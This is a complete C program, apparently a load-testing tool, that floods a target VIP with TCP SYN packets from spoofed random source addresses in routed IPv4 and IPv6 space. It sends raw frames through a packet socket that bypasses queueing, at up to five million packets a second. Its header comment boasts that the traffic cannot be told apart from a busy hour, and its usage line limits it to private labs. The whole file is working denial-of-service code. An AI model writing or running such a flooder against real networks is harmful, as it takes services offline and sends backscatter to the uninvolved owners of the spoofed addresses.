/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A flood of SYNs to a VIP, each from a source of its own that nobody is at; bounded in rate
 * and time. The frames go out by a packet socket, past the queueing discipline, with right
 * checksums: nothing tells them from what a busy hour brings, but that no ACK follows.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/ip.h>
#include <linux/ipv6.h>
#include <linux/tcp.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH	    64
#define FRAME_MAX   (sizeof(struct ethhdr) + sizeof(struct ipv6hdr) + sizeof(struct segment))
#define SECONDS_MAX 600
#define RATE_MAX    5000000
#define NS	    1000000000ull

struct segment {
	struct tcphdr head;
	__u8 mss[4];
};

struct flood {
	const char *interface, *mac, *vip;
	unsigned long rate, seconds;
	__u16 port;
	int is_v6;
	int fd;
	__u64 random;
	size_t len; /* of a frame */
	__u8 frames[BATCH][FRAME_MAX];
};

static __u64 now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (__u64)ts.tv_sec * NS + (__u64)ts.tv_nsec;
}

/* xorshift64*: what a source looks like matters, not that nobody can foretell it. */
static __u64 flood_draw(struct flood *f)
{
	f->random ^= f->random >> 12;
	f->random ^= f->random << 25;
	f->random ^= f->random >> 27;
	return f->random * 0x2545f4914f6cdd1dull;
}

/* ---- frames ---- */

static __u32 sum_of(const void *data, size_t len, __u32 sum)
{
	const __u8 *bytes = data;

	for (size_t i = 0; i < len; i += 2)
		sum += (__u32)bytes[i] << 8 | bytes[i + 1];
	return sum;
}

static __u16 sum_fold(__u32 sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((__u16)~sum);
}

static struct segment *frame_segment(const struct flood *f, __u8 *frame)
{
	return (void *)(frame + f->len - sizeof(struct segment));
}

/* What all frames have in common; 0 or -1 with a message. */
static int frame_begin(const struct flood *f, __u8 *frame)
{
	struct ethhdr *eth = (void *)frame;
	struct iphdr *ip4 = (void *)(eth + 1);
	struct ipv6hdr *ip6 = (void *)(eth + 1);
	struct segment *tcp = frame_segment(f, frame);
	const struct ether_addr *to = ether_aton(f->mac);

	if (!to || inet_pton(f->is_v6 ? AF_INET6 : AF_INET, f->vip,
			     f->is_v6 ? (void *)&ip6->daddr : (void *)&ip4->daddr) != 1) {
		fprintf(stderr, "flood: %s or %s is no address; see --help\n", f->mac, f->vip);
		return -1;
	}
	memcpy(eth->h_dest, to, ETH_ALEN);
	memcpy(eth->h_source, "\2\0\0\0\0\xfe", ETH_ALEN);
	eth->h_proto = htons(f->is_v6 ? ETH_P_IPV6 : ETH_P_IP);
	if (f->is_v6) {
		*(__u8 *)ip6 = 0x60;
		ip6->payload_len = htons(sizeof(*tcp));
		ip6->nexthdr = IPPROTO_TCP;
		ip6->hop_limit = 64;
	} else {
		*(__u8 *)ip4 = 0x45;
		ip4->tot_len = htons(sizeof(*ip4) + sizeof(*tcp));
		ip4->ttl = 64;
		ip4->protocol = IPPROTO_TCP;
	}
	tcp->head.dest = htons(f->port);
	tcp->head.doff = sizeof(*tcp) / 4;
	tcp->head.syn = 1;
	tcp->head.window = htons(64240);
	memcpy(tcp->mss, "\2\4\5\xb4", sizeof(tcp->mss)); /* 1460 */
	return 0;
}

/* A source from 16.0.0.0 to 79.255.255.255, or in 2a00::/16: routed, and nobody's in a lab. */
static void frame_vary(struct flood *f, __u8 *frame)
{
	struct iphdr *ip4 = (void *)(frame + sizeof(struct ethhdr));
	struct ipv6hdr *ip6 = (void *)ip4;
	struct segment *tcp = frame_segment(f, frame);
	__u64 source = flood_draw(f), ports = flood_draw(f);
	__u32 sum = IPPROTO_TCP + sizeof(*tcp);

	tcp->head.source = htons(1024 + (ports >> 48) % 64512);
	tcp->head.seq = (__u32)ports;
	tcp->head.check = 0;
	if (f->is_v6) {
		memcpy(&ip6->saddr, "\x2a\0\0\0\0\0\0\0", 8);
		memcpy((__u8 *)&ip6->saddr + 2, &source, 6);
		memcpy((__u8 *)&ip6->saddr + 8, &ports, 8);
		sum = sum_of(&ip6->saddr, 2 * sizeof(ip6->saddr), sum);
	} else {
		ip4->saddr = htonl(0x10000000u + ((__u32)(source >> 32) & 0x3fffffffu));
		ip4->check = 0;
		ip4->check = sum_fold(sum_of(ip4, sizeof(*ip4), 0));
		sum = sum_of(&ip4->saddr, 2 * sizeof(ip4->saddr), sum);
	}
	tcp->head.check = sum_fold(sum_of(tcp, sizeof(*tcp), sum));
}

/* ---- sending ---- */

static int flood_open(struct flood *f)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET};
	int one = 1;

	at.sll_ifindex = (int)if_nametoindex(f->interface);
	f->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	if (!at.sll_ifindex || f->fd < 0 || bind(f->fd, (void *)&at, sizeof(at)) ||
	    setsockopt(f->fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one))) {
		fprintf(stderr, "flood: %s: %s; it needs root and an interface that is up\n",
			f->interface, strerror(errno));
		return -1;
	}
	return 0;
}

/* How many of a batch went out: none where the link has no room. */
static int flood_send(struct flood *f)
{
	struct mmsghdr batch[BATCH] = {0};
	struct iovec part[BATCH];
	int sent;

	for (int i = 0; i < BATCH; i++) {
		frame_vary(f, f->frames[i]);
		part[i] = (struct iovec){f->frames[i], f->len};
		batch[i].msg_hdr.msg_iov = &part[i];
		batch[i].msg_hdr.msg_iovlen = 1;
	}
	sent = sendmmsg(f->fd, batch, BATCH, 0);
	if (sent >= 0)
		return sent;
	return errno == ENOBUFS || errno == EAGAIN || errno == EINTR ? 0 : -errno;
}

static int flood_run(struct flood *f)
{
	__u64 start = now_ns(), end = start + f->seconds * NS, now, sent = 0;
	int n;

	while ((now = now_ns()) < end) {
		if (sent > (now - start) / 1000 * f->rate / 1000000) {
			nanosleep(&(struct timespec){.tv_nsec = 100000}, NULL);
			continue;
		}
		n = flood_send(f);
		if (n < 0) {
			fprintf(stderr, "flood: %s: %s\n", f->interface, strerror(-n));
			return -1;
		}
		sent += (__u64)n;
	}
	printf("sent %llu packets in %lu s: %llu/s\n", sent, f->seconds, sent / f->seconds);
	return 0;
}

/* ---- the command ---- */

static const char usage[] =
	"Usage: flood --interface NAME --dst-mac MAC --vip ADDRESS [--v6]\n"
	"             [--port N] [--rate N] [--seconds N]\n"
	"SYNs to a VIP from spoofed sources; for a lab of your own, never for a real network.\n"
	"  --rate N     packets a second at most (default 200000)\n"
	"  --seconds N  how long (default 5, at most 600)\n"
	"  --port N     of the VIP (default 25)\n"
	"  --v6         the VIP is an IPv6 address\n";

static unsigned long number(const char *text, unsigned long max)
{
	char *end;
	unsigned long n = strtoul(text, &end, 10);

	if (*end || !n || n > max) {
		fprintf(stderr, "flood: %s: not a number from 1 to %lu\n", text, max);
		exit(2);
	}
	return n;
}

static void options_parse(struct flood *f, int argc, char **argv)
{
	static const struct option options[] = {
		{"interface", 1, NULL, 'i'}, {"dst-mac", 1, NULL, 'm'}, {"vip", 1, NULL, 'v'},
		{"port", 1, NULL, 'p'},	     {"rate", 1, NULL, 'r'},	{"seconds", 1, NULL, 's'},
		{"v6", 0, NULL, '6'},	     {"help", 0, NULL, 'h'},	{0}};
	int option;

	while ((option = getopt_long(argc, argv, "", options, NULL)) != -1)
		switch (option) {
		case 'i':
			f->interface = optarg;
			break;
		case 'm':
			f->mac = optarg;
			break;
		case 'v':
			f->vip = optarg;
			break;
		case 'p':
			f->port = (__u16)number(optarg, 65535);
			break;
		case 'r':
			f->rate = number(optarg, RATE_MAX);
			break;
		case 's':
			f->seconds = number(optarg, SECONDS_MAX);
			break;
		case '6':
			f->is_v6 = 1;
			break;
		case 'h':
			fputs(usage, stdout);
			exit(0);
		default:
			fputs(usage, stderr);
			exit(2);
		}
	if (!f->interface || !f->mac || !f->vip || optind < argc) {
		fputs(usage, stderr);
		exit(2);
	}
}

int main(int argc, char **argv)
{
	static struct flood f = {.port = 25, .rate = 200000, .seconds = 5};

	options_parse(&f, argc, argv);
	f.random = now_ns() * 2 + 1; /* not zero; other sources in each run */
	f.len = sizeof(struct ethhdr) + (f.is_v6 ? sizeof(struct ipv6hdr) : sizeof(struct iphdr)) +
		sizeof(struct segment);
	for (int i = 0; i < BATCH; i++)
		if (frame_begin(&f, f.frames[i]))
			return 2;
	return flood_open(&f) || flood_run(&f);
}
